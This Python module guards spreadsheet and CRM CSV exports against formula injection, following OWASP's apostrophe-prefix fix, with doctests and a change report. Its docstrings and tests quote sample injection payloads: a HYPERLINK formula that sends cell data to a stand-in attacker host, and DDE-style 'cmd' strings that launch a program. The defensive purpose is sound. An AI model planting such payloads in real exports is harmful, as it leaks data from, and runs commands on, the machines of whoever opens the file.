"""Formula-injection guard for spreadsheet-bound text.

Spreadsheets (Excel, LibreOffice Calc, Google Sheets) run a cell as a formula when its text
starts with ``=``, ``+``, ``-`` or ``@``, also after leading blanks, and OWASP adds tab, carriage
return and line feed to the characters to neutralise
(https://owasp.org/www-community/attacks/CSV_Injection; ASVS 5.0 requirement 1.2.10). A handle
or name such as ``=HYPERLINK("https://evil.example/?"&A1)`` or ``@SUM(1+9)*cmd|' /C calc'!A0``
in an exported file would otherwise execute when someone opens it.

Two behaviours, chosen per target (see :data:`GUARDS`):

``spreadsheet`` (graphkit's plain CSV output)
    OWASP's fix: a text cell whose first character is a trigger, or whose first non-blank
    character is ``=``, ``+``, ``-`` or ``@``, gets a leading apostrophe, which spreadsheets take
    as "this cell is text". Nothing else changes, and the rule is reversible: a cell that
    already starts with apostrophes followed by a trigger gets one more, so
    :func:`unguard_spreadsheet` (used when ``graphkit export`` reads an earlier CSV result)
    gives back the exact original.

``crm`` (``--crm hubspot`` and ``--crm salesforce``)
    The importers store a cell's text verbatim (Salesforce: "Field values aren't trimmed",
    https://developer.salesforce.com/docs/atlas.en-us.api_asynch.meta/api_asynch/datafiles_csv_valid_record_rows.htm;
    HubSpot maps each column to a property value as given), so an apostrophe added for a
    spreadsheet would become part of the person's name in the CRM. The guard therefore first
    removes what is not part of the value: leading blanks, tabs, CRs and LFs (never part of a
    name, title or handle) and, in handle columns, the ``@`` sigil (``@maya_builds`` is the
    account ``maya_builds``). Only a cell that still starts with ``=``, ``+``, ``-`` or ``@``
    after that, which no genuine name or title does, is prefixed with an apostrophe, so the CRM
    stores inert text that cannot execute in any later export of the CRM's data either. Every
    changed cell is counted and listed in the run manifest. Both CRMs get the same rule
    because both store the text as given. Identifier columns (``key_columns``: the external
    id and references to it) get the reversible ``spreadsheet`` rule instead, so that two
    distinct ids (``" b"`` and ``"b"``) stay two distinct keys, the same in every export.

Both rules treat the full-width and small forms of ``= + - @`` (U+FF1D, U+FF0B, U+FF0D,
U+FF20 and U+FE66, U+FE62, U+FE63, U+FE6B, which spreadsheets with East Asian input read as
their ASCII forms) and the minus sign U+2212 like the ASCII characters, and non-breaking,
figure, narrow and ideographic spaces and the byte-order mark like blanks. Both apply to
the final value of every cell and to every header, and what they yield is inert: stripping
blanks or ``@`` again, any number of times, never reveals a formula (``@ =HYPERLINK(...)``
in a handle becomes ``'=HYPERLINK(...)``, never `` =HYPERLINK(...)``).

Only text columns are guarded: numbers, dates and booleans cannot hold a formula, and neither
can a text column whose every value is a number (``-3.5``, ``+1 555 0100``, ``(0)20 7946``:
digits, signs, blanks, ``().,/`` and an exponent, nothing that names a function), so such a
column keeps its numbers as they are.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Final, Literal

import polars as pl

from graphkit.errors import ParameterError

GuardName = Literal["spreadsheet", "crm"]
GUARDS: Final[dict[str, GuardName]] = {
    "csv": "spreadsheet",
    "hubspot": "crm",
    "salesforce": "crm",
}
"""The guard each target gets."""

TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n")
"""Characters that make a spreadsheet read a cell as a formula when they lead it."""

FORMULA_STARTS: Final = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
"""``= + - @``, their full-width and small forms and the minus sign: a formula's first character."""

BLANKS: Final = "".join(chr(code) for code in range(0x3001) if chr(code).isspace()) + (
    "\x1c\x1d\x1e\x1f\u180e\u200b\u2060\ufeff"
)
"""Leading characters a spreadsheet may skip before a formula: every Unicode space and line
separator (the no-break, en, em and ideographic spaces, U+0085, U+2028...), the separators
U+001C-U+001F, and the zero-width space, joiner and byte-order mark."""

HANDLE_SIGILS: Final = "@\uff20\ufe6b"
"""The ``@`` before a handle, in its ASCII, full-width and small forms."""


def _character_class(characters: str) -> str:
    # \x{...} escapes: the class holds -, control characters and non-ASCII forms literally.
    return "[" + "".join(f"\\x{{{ord(c):X}}}" for c in characters) + "]"


_BLANK: Final = _character_class(BLANKS)
_START: Final = _character_class(FORMULA_STARTS)
# A formula: a tab, CR or LF first, or = + - @ (any form) after leading blanks.
_FORMULA: Final = rf"^(?:[\t\r\n]|{_BLANK}*{_START})"
_GUARDED: Final = rf"^'*(?:[\t\r\n]|{_BLANK}*{_START})"
# A number as people write it: signs, digits, blanks, ().,/ and an exponent. Nothing in it
# names a function, so a column of them stays as it is (-3.5, +1 555 0100).
_NUMBER: Final = r"^[+\-]?[0-9 ().,/\-]*[0-9][0-9 ().,/\-]*(?:[eE][+\-]?[0-9]+)?$"


@dataclass
class GuardReport:
    """Which cells a guard changed, for the run manifest.

    Attributes
    ----------
    behaviour
        ``spreadsheet`` or ``crm``.
    changed
        Number of cells (and headers) changed.
    cells
        ``(table, row, column, reason)`` of the first changed cells (row 1 = first data row
        of the table, row 0 = its header), at most :attr:`limit` of them.
    """

    behaviour: str
    changed: int = 0
    cells: list[tuple[str, int, str, str]] = field(default_factory=list)
    limit: int = 100

    def add(self, rows: Iterable[int], column: str, reason: str, table: str = "") -> None:
        """Record the changed ``rows`` (0-based; -1 for the header) of ``column``."""
        for row in rows:
            self.changed += 1
            if len(self.cells) < self.limit:
                self.cells.append((table, row + 1, column, reason))

    def as_dict(self) -> dict[str, object]:
        """The report as JSON-ready data."""
        return {
            "behaviour": self.behaviour,
            "cells_changed": self.changed,
            "cells": [
                {"table": table, "row": row, "column": column, "reason": why}
                for table, row, column, why in self.cells
            ],
        }


def is_formula(value: str) -> bool:
    """Whether a spreadsheet would read ``value`` as a formula.

    Examples
    --------
    >>> [is_formula(v) for v in ["=1+1", "  @SUM(A1)", "\\tx", "-5", "Ada", "a=b", "'=1"]]
    [True, True, True, True, False, False, False]
    >>> [is_formula(v) for v in ["\\u00a0=1", "\\uff1dcmd", "\\u3000\\uff20x"]]
    [True, True, True]
    """
    if value[:1] in ("\t", "\r", "\n"):
        return True
    first = value.lstrip(BLANKS)[:1]
    return first != "" and first in FORMULA_STARTS


def is_number(value: str) -> bool:
    """Whether ``value`` is a number as people write it (nothing that can call a function).

    Examples
    --------
    >>> [is_number(v) for v in ["-3.5", "+1 555 0100", "1e-5", "-1+1", "=1", "-", "--1"]]
    [True, True, True, False, False, False, True]
    """
    return pl.Series([value]).str.contains(_NUMBER).item() is True


def _text_columns(frame: pl.DataFrame) -> list[str]:
    return [name for name, dtype in frame.schema.items() if dtype == pl.String]


def _numeric_columns(frame: pl.DataFrame, columns: Iterable[str]) -> set[str]:
    """Text columns whose every non-empty value is a number."""
    columns = list(columns)
    if not columns:
        return set()
    verdicts = frame.select(
        pl.col(name).filter(pl.col(name) != "").str.contains(_NUMBER).all().alias(name)
        for name in columns
    )
    return {name for name in columns if verdicts[name][0] is True}


def _columns_with_guarded_cells(frame: pl.DataFrame, columns: list[str]) -> list[str]:
    if not columns:
        return []
    found = frame.select(pl.col(name).str.contains(_GUARDED).any() for name in columns)
    return [name for name in columns if found[name][0] is True]


def guard_spreadsheet(
    frame: pl.DataFrame, report: GuardReport | None = None, *, offset: int = 0
) -> pl.DataFrame:
    """Prefix formula-like text cells and headers with an apostrophe (OWASP), reversibly.

    Parameters
    ----------
    frame
        The table about to be written as CSV.
    report
        Collects the changed cells when given.
    offset
        Row number of the frame's first row in the whole output (for the report); the
        headers are guarded and reported only when it is 0 (the part that writes them).

    Returns
    -------
    polars.DataFrame
        The same table with guarded text columns and headers.

    Examples
    --------
    >>> table = pl.DataFrame({"name": ["=HYPERLINK(1)", "Ada", "'=x", None], "n": [-1, 2, 3, 4],
    ...                       "balance": ["-3.5", "2", None, "+1"]})
    >>> guarded = guard_spreadsheet(table)
    >>> guarded["name"].to_list(), guarded["balance"].to_list()
    (["'=HYPERLINK(1)", 'Ada', "''=x", None], ['-3.5', '2', None, '+1'])
    >>> guard_spreadsheet(pl.DataFrame({"=SUM(A1)": ["x"]})).columns
    ["'=SUM(A1)"]
    >>> unguard_spreadsheet(guard_spreadsheet(table)).equals(table)
    True
    """
    # Only text columns with a formula-like cell can change; of those, all-number columns stay.
    text = _columns_with_guarded_cells(frame, _text_columns(frame))
    columns = [name for name in text if name not in _numeric_columns(frame, text)]
    if report is not None:
        for name in columns:
            hits = frame.select(pl.arg_where(pl.col(name).str.contains(_GUARDED)))
            report.add((offset + int(row) for row in hits.to_series()), name, "prefixed")
    guarded = frame.with_columns(_prefixed(pl.col(name)).alias(name) for name in columns)
    if offset:
        return guarded
    headers = {name: _guarded_name(name) for name in frame.columns}
    if report is not None:
        for name, header in headers.items():
            if header != name:
                report.add([-1], name, "header prefixed")
    return guarded.rename(headers)


def _prefixed(value: pl.Expr) -> pl.Expr:
    return pl.when(value.str.contains(_GUARDED)).then(pl.lit("'") + value).otherwise(value)


def _guarded_name(name: str) -> str:
    return "'" + name if is_formula(name.lstrip("'")) else name


def unguard_spreadsheet(frame: pl.DataFrame) -> pl.DataFrame:
    """Undo :func:`guard_spreadsheet`: drop the apostrophe it added to cells and headers."""
    restored = frame.with_columns(
        pl.when(pl.col(name).str.contains(_GUARDED) & pl.col(name).str.starts_with("'"))
        .then(pl.col(name).str.slice(1))
        .otherwise(pl.col(name))
        .alias(name)
        for name in _text_columns(frame)
    )
    return restored.rename(
        {
            name: name[1:]
            for name in frame.columns
            if name.startswith("'") and is_formula(name.lstrip("'"))
        }
    )


def guard_crm(
    frame: pl.DataFrame,
    report: GuardReport | None = None,
    *,
    handle_columns: Iterable[str] = (),
    key_columns: Iterable[str] = (),
    table: str = "",
) -> pl.DataFrame:
    """Make text cells and headers safe to open in a spreadsheet while keeping what the CRM
    stores right.

    Leading blanks are removed, and with them the ``@`` sigil in handle columns (together,
    until neither leads: ``@ =x`` loses both), and a cell that then starts with ``=``, ``+``,
    ``-`` or ``@`` (any form) gets a leading apostrophe, unless its column holds only numbers.
    Key columns get :func:`guard_spreadsheet`'s reversible rule, so distinct keys stay
    distinct. See the module docstring for why.

    Parameters
    ----------
    frame
        The CRM table (target headers) about to be written.
    report
        Collects the changed cells when given.
    handle_columns
        Columns holding social handles.
    key_columns
        Columns holding identifiers (the import's external id and references to it).
    table
        Name of the table in the report (e.g. the CRM object).

    Returns
    -------
    polars.DataFrame

    Raises
    ------
    ParameterError
        When two headers are one after the guard.

    Examples
    --------
    >>> table = pl.DataFrame({"Handle": ["@maya", " \\t=cmd|' /C calc'!A0", "@ =HYPERLINK(1)"],
    ...                       "Name": ["\\tAda Brightwater", "-1+1", "Bo"]})
    >>> guarded = guard_crm(table, handle_columns=["Handle"])
    >>> guarded["Handle"].to_list(), guarded["Name"].to_list()
    (['maya', "'=cmd|' /C calc'!A0", "'=HYPERLINK(1)"], ['Ada Brightwater', "'-1+1", 'Bo'])
    """
    handles = set(handle_columns)
    keys = set(key_columns)
    columns = _text_columns(frame)
    stripped = frame.select(
        pl.col(name).str.strip_chars_start(BLANKS + (HANDLE_SIGILS if name in handles else ""))
        for name in columns
        if name not in keys
    )
    numeric = _numeric_columns(stripped, stripped.columns)
    updated = []
    for name in columns:
        if name in keys:
            updated.append(_prefixed(pl.col(name)).alias(name))
            continue
        value = stripped[name]
        if name not in numeric:
            value = pl.select(
                pl.when(value.str.contains(f"^{_START}")).then(pl.lit("'") + value).otherwise(value)
            ).to_series()
        updated.append(pl.lit(value).alias(name))
    guarded = frame.with_columns(updated)
    if report is not None:
        for name in columns:
            changed = frame.select(
                pl.arg_where(pl.col(name).ne_missing(guarded[name])).alias("row")
            ).to_series()
            for row in changed:
                reason = _crm_reason(
                    frame[name][row], guarded[name][row], handle=name in handles, key=name in keys
                )
                report.add([int(row)], name, reason, table)
    headers = {name: _crm_header(name) for name in frame.columns}
    seen: dict[str, str] = {}
    for name, header in headers.items():
        if header in seen:
            raise ParameterError(
                f"the {table or 'CRM'} headers {seen[header]!r} and {name!r} are both "
                f"{header!r} once leading blanks are removed; change one in the mapping file"
            )
        seen[header] = name
        if report is not None and header != name:
            report.add([-1], name, "header " + _crm_reason(name, header), table)
    return guarded.rename(headers)


def _crm_header(name: str) -> str:
    stripped = name.lstrip(BLANKS)
    return "'" + stripped if stripped[:1] != "" and stripped[:1] in FORMULA_STARTS else stripped


def _crm_reason(before: str, after: str, *, handle: bool = False, key: bool = False) -> str:
    """Why :func:`guard_crm` changed ``before`` into ``after``."""
    if key:
        return "prefixed"
    stripped = before.lstrip(BLANKS + (HANDLE_SIGILS if handle else ""))
    removed = before[: len(before) - len(stripped)]
    reasons = []
    if any(character in BLANKS for character in removed):
        reasons.append("leading blanks removed")
    if any(character in HANDLE_SIGILS for character in removed):
        reasons.append("handle @ removed")
    if after != stripped:
        reasons.append("prefixed")
    return "; ".join(reasons)
